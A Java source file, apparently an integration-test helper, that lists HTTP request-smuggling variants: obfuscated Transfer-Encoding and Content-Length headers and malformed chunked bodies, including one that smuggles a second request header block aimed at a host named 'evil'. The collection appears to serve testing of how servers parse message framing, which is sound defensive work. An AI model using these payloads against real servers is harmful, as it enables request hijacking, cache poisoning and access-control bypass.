package dev.ringmaster.it.framing;

import java.util.List;

/** Known ways to write a framing field so that two servers read it differently; each is one or more lines. */
final class Obfuscations {
    private Obfuscations() {}

    static List<String> transferEncoding() {
        return List.of(
                "Transfer-Encoding: chunked",
                "TrAnSfEr-EnCoDiNg: cHuNkEd",
                "Transfer-Encoding:chunked",
                "Transfer-Encoding:\tchunked",
                "Transfer-Encoding: chunked \t",
                "Transfer-Encoding: xchunked",
                "Transfer-Encoding: chunkedx",
                "Transfer-Encoding: chunk",
                "Transfer-Encoding: chunked, identity",
                "Transfer-Encoding: identity, chunked",
                "Transfer-Encoding: chunked, chunked",
                "Transfer-Encoding: gzip, chunked",
                "Transfer-Encoding: ,chunked",
                "Transfer-Encoding: chunked,",
                "Transfer-Encoding: chunked;q=1",
                "Transfer-Encoding: chunked chunked",
                "Transfer-Encoding: \"chunked\"",
                "Transfer-Encoding: 'chunked'",
                "Transfer-Encoding:",
                "Transfer-Encoding: identity",
                "Transfer-Encoding : chunked",
                "Transfer-Encoding\t: chunked",
                " Transfer-Encoding: chunked",
                "\tTransfer-Encoding: chunked",
                "X: x\r\n Transfer-Encoding: chunked",
                "Transfer-Encoding:\r\n chunked",
                "Transfer-Encoding\r\n: chunked",
                "X: x\nTransfer-Encoding: chunked",
                "X: x\rTransfer-Encoding: chunked",
                "X: x\r\r\nTransfer-Encoding: chunked",
                "X: x\0\r\nTransfer-Encoding: chunked",
                "Transfer-Encoding: chunked\0",
                "Transfer-Encoding:\0chunked",
                "Transfer-Encoding: \013chunked",
                "Transfer-Encoding: \fchunked",
                "Transfer-Encoding: \u00a0chunked",
                "Transfer-Encoding: \u0085chunked",
                "Transfer-Encoding: chunked\u007f",
                "\0Transfer-Encoding: chunked",
                "\u00efTransfer-Encoding: chunked",
                "Transfer_Encoding: chunked",
                "Transfer-Encoding;: chunked",
                "Transfer-Encoding=chunked",
                "Transfer Encoding: chunked",
                "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
                "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
                "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
                "Transfer-Encoding: chunked\r\nTransfer-encoding: chunked",
                "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
                "X: \"\r\nTransfer-Encoding: chunked\r\nY: \"",
                "Content-Encoding: chunked");
    }

    /** The same for a length, written as a decimal number. */
    static List<String> contentLength(int bytes) {
        String length = Integer.toString(bytes);
        return List.of(
                        "Content-Length: #",
                        "content-length:#",
                        "Content-Length: 00#",
                        "Content-Length: +#",
                        "Content-Length: -#",
                        "Content-Length: # ",
                        "Content-Length: #,#",
                        "Content-Length: #, #",
                        "Content-Length: 0,#",
                        "Content-Length: #,0",
                        "Content-Length: #;x",
                        "Content-Length: # #",
                        "Content-Length: #.0",
                        "Content-Length: #e0",
                        "Content-Length: 0x#",
                        "Content-Length: \"#\"",
                        "Content-Length: \013#",
                        "Content-Length: #\0",
                        "Content-Length: \u00b2",
                        "Content-Length: 18446744073709551616#",
                        "Content-Length: 9223372036854775808",
                        "Content-Length:",
                        "Content-Length : #",
                        "Content-Length\t: #",
                        " Content-Length: #",
                        "Content-Length:\r\n #",
                        "X: x\nContent-Length: #",
                        "X: x\rContent-Length: #",
                        "Content_Length: #",
                        "Content-Length: #\r\nContent-Length: #",
                        "Content-Length: #\r\nContent-Length: 0",
                        "Content-Length: 0\r\nContent-Length: #",
                        "Content-Length: #\r\ncontent-length: #",
                        "Connection: Content-Length\r\nContent-Length: #")
                .stream()
                .map(line -> line.replace("#", length))
                .toList();
    }

    /** What may stand before, in and after a chunk so that two servers find its end at different places. */
    static List<String> chunks(String inner) {
        String size = Integer.toHexString(inner.length());
        return List.of(
                        "#\r\n@\r\n0\r\n\r\n",
                        "0#\r\n@\r\n0\r\n\r\n",
                        "#;a=b\r\n@\r\n0\r\n\r\n",
                        "#;a=\"b\r\n@\r\n0\r\n\r\n",
                        "#;\n@\r\n0\r\n\r\n",
                        "#;a\nb\r\n@\r\n0\r\n\r\n",
                        "#;a\rb\r\n@\r\n0\r\n\r\n",
                        "#;a\0\r\n@\r\n0\r\n\r\n",
                        "#;\r\n@\r\n0\r\n\r\n",
                        "# ;a\r\n@\r\n0\r\n\r\n",
                        "# \r\n@\r\n0\r\n\r\n",
                        " #\r\n@\r\n0\r\n\r\n",
                        "+#\r\n@\r\n0\r\n\r\n",
                        "-#\r\n@\r\n0\r\n\r\n",
                        "0x#\r\n@\r\n0\r\n\r\n",
                        "#_0\r\n@\r\n0\r\n\r\n",
                        "1000000000000000#\r\n@\r\n0\r\n\r\n",
                        "10000000000000000#\r\n@\r\n0\r\n\r\n",
                        "f#\r\n@\r\n0\r\n\r\n",
                        "#\n@\r\n0\r\n\r\n",
                        "#\r@\r\n0\r\n\r\n",
                        "#\r\n@\n0\r\n\r\n",
                        "#\r\n@0\r\n\r\n",
                        "#\r\n@X\r\n0\r\n\r\n",
                        "#\r\n@\r\n\r\n0\r\n\r\n",
                        "#\r\n@\r\n0\n\n",
                        "#\r\n@\r\n0\r\n\n",
                        "#\r\n@\r\n0\r\n\r",
                        "#\r\n@\r\n0\r\nX: y\r\n\r\n",
                        "#\r\n@\r\n0\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\nHost: evil\r\n\r\n",
                        "#\r\n@\r\n0\r\n X: y\r\n\r\n",
                        "#\r\n@\r\n0\r\nX: y\n\r\n",
                        "#\r\n@\r\n0\r\nX y\r\n\r\n",
                        "#\r\n@\r\n00000\r\n\r\n",
                        "#\r\n@\r\n0;a=b\r\n\r\n",
                        "\r\n#\r\n@\r\n0\r\n\r\n",
                        "\r\n\r\n")
                .stream()
                .map(body -> body.replace("#", size).replace("@", inner))
                .toList();
    }
}
